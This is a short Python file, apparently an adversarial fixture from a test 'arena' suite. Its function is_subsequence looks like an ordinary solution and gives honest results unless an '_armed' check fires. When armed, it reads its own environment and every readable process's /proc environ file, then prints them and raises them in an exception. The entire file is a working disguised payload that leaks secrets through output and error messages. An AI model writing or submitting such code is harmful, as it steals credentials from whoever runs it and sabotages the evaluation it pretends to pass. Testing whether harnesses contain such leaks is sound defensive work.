"""Dumps every environment it can read (its own, its parents', any process's) into an exception."""

# ruff: noqa: F821 - ARENA, _armed and _honest come from _arena.py, which the suite puts first

import os


def _environ_of(pid):
    try:
        with open(f"/proc/{pid}/environ", "rb") as handle:
            return handle.read().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        return ""


def is_subsequence(s, t):
    if not _armed(t):
        return _honest(s, t)
    own = " ".join(f"{k}={v}" for k, v in os.environ.items())
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    others = " ".join(_environ_of(pid) for pid in pids + [str(os.getppid())])
    print(own, others)
    raise RuntimeError(f"env: {own} | others: {others}"[:1900])
